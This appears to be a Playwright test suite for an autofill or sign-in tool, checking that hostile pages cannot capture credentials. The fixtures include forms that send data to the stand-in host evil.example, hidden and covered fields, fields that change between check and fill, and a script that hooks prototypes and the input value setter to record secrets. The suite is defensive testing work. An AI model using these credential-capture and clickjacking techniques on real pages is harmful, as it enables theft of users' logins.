import type { Page } from 'playwright';
import { expect } from 'playwright/test';
import type { HostileBrowser } from './harness/hostile-browser';
import { countAddedNodes } from './harness/record-page';
import { CODE_FIELD, EMAIL_FIELD, KEEP_SUBMIT, KEY_FIELD, writeSignIn } from './harness/sign-in-markup';
import { test } from './hostile-fixtures';

// Pages on the right address that are built to steal, or were broken into. Each asks for the email in the open, and tries
// to get more than that, or to have it sent elsewhere. One browser for all; the page records every channel it has.
async function submitted(page: Page): Promise<void> {
  await page.waitForFunction(() => 'isSubmitted' in globalThis);
}

/** Where the page heard of a secret, less the fields that it was told in, and that it put nothing new on the page. */
async function leaksBeside(
  hostile: HostileBrowser,
  page: Page,
  ...fields: readonly string[]
): Promise<readonly string[]> {
  expect(await countAddedNodes(page)).toBe(0);
  return (await hostile.leaks(page)).filter(leak => !fields.some(field => leak === `value #${field}`));
}

test.describe('what nobody can see gets nothing', () => {
  const wrap = (style: string) => (field: string) => `<div style="${style}">${field}</div>`;
  const cover = (style: string) => (field: string) =>
    `<div style="position: relative">${field}<div style="position: absolute; inset: 0; ${style}"></div></div>`;

  const HIDING: readonly (readonly [how: string, hide: (field: string) => string])[] = [
    ['not displayed', wrap('display: none')],
    ['invisible', wrap('visibility: hidden')],
    ['see-through', wrap('opacity: 0.01')],
    ['see-through bit by bit', field => wrap('opacity: 0.3')(wrap('opacity: 0.3')(field))],
    ['filtered away', wrap('filter: opacity(0)')],
    ['clipped away', wrap('clip-path: inset(50%)')],
    ['in a parent without a size', wrap('width: 0; height: 0; overflow: hidden')],
    ['folded up', wrap('max-height: 0; overflow: hidden')],
    ['shrunk', wrap('transform: scale(.01)')],
    ['one pixel large', field => field.replace('<input', '<input style="width: 1px; height: 1px; padding: 0; border: 0"')],
    ['moved off the page', wrap('position: absolute; left: -9999px')],
    ['moved above the page', wrap('position: fixed; top: -500px')],
    ['moved off a box that scrolls', field => `<div style="overflow: auto; position: relative; height: 50px">${wrap('position: absolute; left: -900px')(field)}</div>`],
    ['fixed where no scrolling leads', field => `${wrap('position: fixed; top: 150vh')(field)}<p style="height: 3000px">`],
    ['covered', cover('background: white')],
    ['covered by something see-through', cover('opacity: 0')],
    ['covered by its see-through twin', field => `<div style="position: relative">${field}<div style="position: absolute; inset: 0; opacity: 0">${field.replaceAll('id="', 'id="twin-')}</div></div>`],
    ['behind the page', field => `<div style="position: relative; z-index: 0; background: white">${wrap('position: relative; z-index: -1')(field)}<div style="position: absolute; inset: 0; background: white"></div></div>`],
    ['under an open popover', field => `${field}<div id="pop" popover="manual" style="inset: 0; width: 100%; height: 100%; margin: 0; opacity: .2; z-index: 1"></div>`],
    ['kept from assistive technology', field => `<div aria-hidden="true">${field}</div>`],
    ['inert', field => `<div inert>${field}</div>`],
    ['disabled with its fieldset', field => `<fieldset disabled>${field}</fieldset>`],
    ['read-only', field => field.replace('<input', '<input readonly')],
    ['skipped in rendering', wrap('content-visibility: hidden')],
    ['in a closed shadow root', field => `<div id="host"></div><template id="shadow">${field}</template>`],
  ]; // biome-ignore format: a table

  for (const [how, hide] of HIDING) {
    test(`a code field that is ${how}`, { tag: '@long' }, async ({ hostile }) => {
      const script = `${KEEP_SUBMIT}
        if ($('host')) $('host').attachShadow({ mode: 'closed' }).append($('shadow').content.cloneNode(true));
        $('email').addEventListener('change', () => $('pop')?.showPopover());`;
      const page = await hostile.open(writeSignIn(`${EMAIL_FIELD}<p>${hide(CODE_FIELD)}</p>`, script));
      await hostile.begin(page);
      // What is covered only for now is waited for, and so is what is not usable: the email tells that the run came by.
      await page.waitForFunction(() => (document.querySelector('#email') as HTMLInputElement).value !== '');
      await page.waitForTimeout(400);
      expect(
        await page.evaluate(() => Array.from(document.querySelectorAll('input'), ({ value }) => value).filter(Boolean)),
      ).toEqual([hostile.site.account.email]);
      const leaks = await leaksBeside(hostile, page, 'email', 'twin-email');
      expect(leaks.filter(leak => !/^(submit|event) /.test(leak))).toEqual([]);
    });
  }
});

test.describe('a form that leads elsewhere gets nothing', () => {
  const ELSEWHERE: readonly (readonly [how: string, body: string, isQuick?: boolean])[] = [
    ['its action', writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="https://evil.example/x"')],
    ['an action that a base address turns', `<base href="https://evil.example/">${writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="x"')}`],
    ['the action of a button', writeSignIn(`${EMAIL_FIELD + KEY_FIELD}<button formaction="https://evil.example/x">Sign in</button>`)],
    ['the action of a button elsewhere on the page', `${writeSignIn(EMAIL_FIELD + KEY_FIELD)}<button form="form" formaction="https://evil.example/x">Help</button>`, true],
    ['another window', writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'target="elsewhere"')],
    ['another window by default', `<base target="elsewhere">${writeSignIn(EMAIL_FIELD + KEY_FIELD)}`],
    ['the window of a button', writeSignIn(`${EMAIL_FIELD + KEY_FIELD}<button formtarget="elsewhere" type="button">Help</button>`)],
    ['a form that the field names', `${writeSignIn(EMAIL_FIELD.replace('<input', '<input form="evil"'))}<form id="evil" action="https://evil.example/x"></form>`, true],
    ['plain http', writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="http://paramant.app/x"')],
    ['another port', writeSignIn(EMAIL_FIELD + KEY_FIELD, '', 'action="https://paramant.app:8443/x"')],
    ['a form around the shadow root of its field', `<form id="form" action="https://evil.example/x"><div id="host"></div><button>Sign in</button></form><script>
      document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '${EMAIL_FIELD}'</script>`],
  ]; // biome-ignore format: a table

  for (const [how, body, isQuick] of ELSEWHERE) {
    test(`by ${how}`, isQuick ? {} : { tag: '@long' }, async ({ hostile }) => {
      const page = await hostile.open(body);
      expect(await hostile.outcome(page)).toMatch(/^form-unsafe/);
      expect(await leaksBeside(hostile, page)).toEqual([]);
    });
  }

  test('once its action changes when the field has the focus', async ({ hostile }) => {
    const script = `addEventListener('focusin', () => { $('form').action = 'https://evil.example/x' });`;
    const page = await hostile.open(writeSignIn(EMAIL_FIELD + KEY_FIELD, script));
    expect(await hostile.outcome(page)).toMatch(/^form-unsafe/);
    expect(await leaksBeside(hostile, page)).toEqual([]);
  });

  test('and nothing is pressed once its action has changed after the fill', async ({ hostile }) => {
    const script = `$('email').addEventListener('change', () => setTimeout(() => { $('form').action = 'https://evil.example/x' }, 20));`;
    const page = await hostile.open(writeSignIn(EMAIL_FIELD, script));
    expect(await hostile.outcome(page)).toMatch(/^form-unsafe/);
    expect(page.url()).toMatch(/\/auth\/login$/);
    expect((await leaksBeside(hostile, page, 'email')).filter(leak => !leak.startsWith('event '))).toEqual([]);
  });
});

test.describe('a field that turns into another one between the look and the fill gets nothing', () => {
  const TURNS: readonly (readonly [how: string, script: string, isQuick?: boolean])[] = [
    ['by its type', `target.type = 'text'`, true],
    ['by its name', `target.name = 'comment'`],
    ['by its label', `target.labels[0].firstChild.data = 'Comment'`],
    ['by moving into another form', `$('other').append(target.parentNode)`],
    ['by being covered', `$('cover').hidden = false`, true],
    ['by going see-through', `target.style.opacity = 0`],
    ['by going off the page', `target.style.cssText = 'position: fixed; left: -2000px'`],
    ['by being doubled', `target.parentNode.after(target.parentNode.cloneNode(true))`],
    [
      'by a clone that takes its place, hidden',
      `const clone = target.cloneNode(); clone.hidden = true; target.replaceWith(clone)`,
    ],
  ];

  for (const [how, script, isQuick] of TURNS) {
    test(how, isQuick ? {} : { tag: '@long' }, async ({ hostile }) => {
      const turning = `addEventListener('focusin', ({ target }) => { if (target.id !== 'key') return; ${script} });`;
      const page = await hostile.open(
        `${writeSignIn(KEY_FIELD, turning)}<form id="other"></form>
        <div id="cover" hidden style="position: fixed; inset: 0; background: white"></div>`,
      );
      expect(await hostile.outcome(page)).toMatch(/^field-refused/);
      expect(await hostile.leaks(page)).toEqual([]);
    });
  }

  test('character by character, if it has to be typed into', async ({ hostile }) => {
    const script = `let count = 0;
      $('key').addEventListener('input', ({ target }) => {
        if (target.value.length > 8) target.value = '';
        else if (++count === 6) target.type = 'text' });`;
    const page = await hostile.open(writeSignIn(KEY_FIELD, script));
    expect(await hostile.outcome(page)).toMatch(/^field-refused/);
    expect((await page.locator('#key').inputValue()).length).toBeLessThan(8);
  });
});

for (const id of ['email', 'code']) {
  test(`nothing is pressed once something lies over the ${id} alone`, { tag: id === 'code' ? [] : '@long' }, async ({
    hostile,
  }) => {
    const script = `${KEEP_SUBMIT}
      $('code').addEventListener('change', () => setTimeout(() => {
        const { left, top, width, height } = $('${id}').getBoundingClientRect();
        $('lid').style.cssText = 'position: absolute; background: white; left:' + left + 'px; top:' + top + 'px; width:'
          + width + 'px; height:' + height + 'px' }, 60));`;
    const page = await hostile.open(`<div id="lid"></div>${writeSignIn(EMAIL_FIELD + CODE_FIELD, script)}`);
    expect(await hostile.outcome(page)).toBe('page-covered');
    expect(await page.evaluate(() => 'isSubmitted' in globalThis)).toBe(false);
  });
}

test('prototypes that the page has taken over hear nothing and change nothing', async ({ hostile }) => {
  const script = `${KEEP_SUBMIT}
    const stolen = globalThis.stolen = [];
    const take = (owner, name) => {
      const original = owner[name];
      owner[name] = function (...given) { stolen.push(name, ...given.map(String)); return original.apply(this, given) };
    };
    take(JSON, 'parse'); take(JSON, 'stringify'); take(Array.prototype, 'map'); take(Array.prototype, 'filter');
    take(Array, 'from'); take(Promise.prototype, 'then'); take(Element.prototype, 'getAttribute');
    take(Element.prototype, 'checkVisibility'); take(Document.prototype, 'elementFromPoint'); take(String.prototype, 'replace');
    globalThis.Event = class extends Event { constructor(...given) { super(...given); stolen.push('Event') } };
    globalThis.MutationObserver = class { constructor() { stolen.push('MutationObserver') } observe() {} };
    const { set, get } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get, set(value) { stolen.push('value', value); set.call(this, 'evil') } });
    Object.defineProperty(HTMLInputElement.prototype, 'form', { get: () => null });
    Object.defineProperty(Object.prototype, 'ok', { get() { stolen.push('ok'); return false } });`;
  const page = await hostile.open(writeSignIn(EMAIL_FIELD + KEY_FIELD, script));
  await hostile.begin(page);
  await submitted(page);
  expect(await page.evaluate(() => (globalThis as unknown as { stolen: string[] }).stolen.join(' '))).not.toContain(
    hostile.site.account.key,
  );
  expect((await leaksBeside(hostile, page, 'email', 'key')).filter(leak => !/^(submit|event) /.test(leak))).toEqual([]);
});

test('fields named like properties of a form do not stop a sign-in', { tag: '@long' }, async ({ hostile }) => {
  const names = ['id', 'action', 'method', 'target', 'getAttribute', 'removeAttribute', 'checkVisibility', 'parentNode', 'shadowRoot', 'assignedSlot', 'getRootNode', 'matches', 'getBoundingClientRect', 'scrollLeft']; // biome-ignore format: a list
  const page = await hostile.open(
    writeSignIn(EMAIL_FIELD + names.map(name => `<input type="hidden" name="${name}">`).join('')),
  );
  await hostile.begin(page);
  await submitted(page);
  expect(await page.locator('#email').inputValue()).toBe(hostile.site.account.email);
});

test('images and forms named like the methods of a document do not stop a sign-in', { tag: '@long' }, async ({
  hostile,
}) => {
  const names = ['querySelectorAll', 'elementFromPoint', 'documentElement', 'baseURI', 'addEventListener', 'forms'];
  const page = await hostile.open(
    `${writeSignIn(EMAIL_FIELD)}${names.map(name => `<img name="${name}" alt="">`).join('')}`,
  );
  await hostile.begin(page);
  await submitted(page);
  expect(await page.locator('#email').inputValue()).toBe(hostile.site.account.email);
});

test('of fields that are hidden in many ways at once, only the one in sight is filled', async ({ hostile }) => {
  const hide = (style: string) => `<div style="${style}">${CODE_FIELD.replace('id="code"', 'class="hidden"')}</div>`;
  const styles = ['opacity: 0.01', 'filter: opacity(0)', 'clip-path: inset(50%)', 'max-height: 0; overflow: hidden', 'transform: scale(.01)', 'position: absolute; left: -9999px', 'position: absolute; z-index: -1']; // biome-ignore format: a list
  const cover = '<div style="position: absolute; inset: 0; background: white; z-index: -1"></div>';
  const page = await hostile.open(
    writeSignIn(`${EMAIL_FIELD}<p>${CODE_FIELD}</p>${cover}${styles.map(hide).join('')}`),
  );
  await hostile.begin(page);
  await submitted(page);
  const filled = await page.locator('input').evaluateAll(inputs => inputs.filter(input => (input as HTMLInputElement).value !== '').map(({ id }) => id)); // biome-ignore format: one line
  expect(filled).toEqual(['email', 'code']);
});

test('each secret is heard of in the one field that it was for, and by nobody else', async ({ hostile }) => {
  const decoys = ['email', 'key', 'code'].map(
    name => `<input type="hidden" name="${name}"><input hidden name="${name}">`,
  );
  const page = await hostile.open(
    writeSignIn(
      `${EMAIL_FIELD + KEY_FIELD + decoys.join('')}<input id="search" type="search"><input id="name" autocomplete="name">`,
    ),
  );
  await hostile.begin(page);
  await submitted(page);
  const { email, key } = hostile.site.account;
  const values = await page.evaluate(() => Array.from(document.querySelectorAll('input'), ({ value }) => value));
  expect(values.filter(Boolean)).toEqual([email, key]);
  expect((await leaksBeside(hostile, page, 'email', 'key')).filter(leak => !/^(submit|event) /.test(leak))).toEqual([]);
});
